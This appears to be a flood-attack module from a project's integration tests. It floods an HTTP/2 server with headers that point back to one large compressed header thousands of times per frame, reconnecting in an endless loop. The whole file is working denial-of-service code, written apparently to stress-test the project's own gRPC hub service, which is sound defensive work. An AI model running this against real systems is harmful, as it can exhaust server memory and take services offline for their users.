"""A member puts one long header into the table of its connection and names it thousands of times, a byte each time."""

from __future__ import annotations

import time
from contextlib import suppress

from tests.integration.floods.attacks.place import Place, in_full_swing
from tests.integration.floods.attacks.wire import END_HEADERS, HEADERS, Wire, frame, text

CALLER = "insurance"
_FIRST_IN_TABLE = b"\xbe"  # index 62 (RFC 7541 section 6.1)


def flood(place: Place) -> None:
    in_full_swing()
    while True:
        wire = Wire(place)
        path = "/warifu.api.hub.v1.HubService/Exchange"
        put = b"\x40" + text("bomb") + text("x" * 3_900)
        with suppress(OSError):
            for number in range(50_000):
                content = wire.headers(path) + (put if number == 0 else b"") + _FIRST_IN_TABLE * 4_000
                wire.send(frame(HEADERS, END_HEADERS, 2 * number + 1, content))
        time.sleep(0.1)
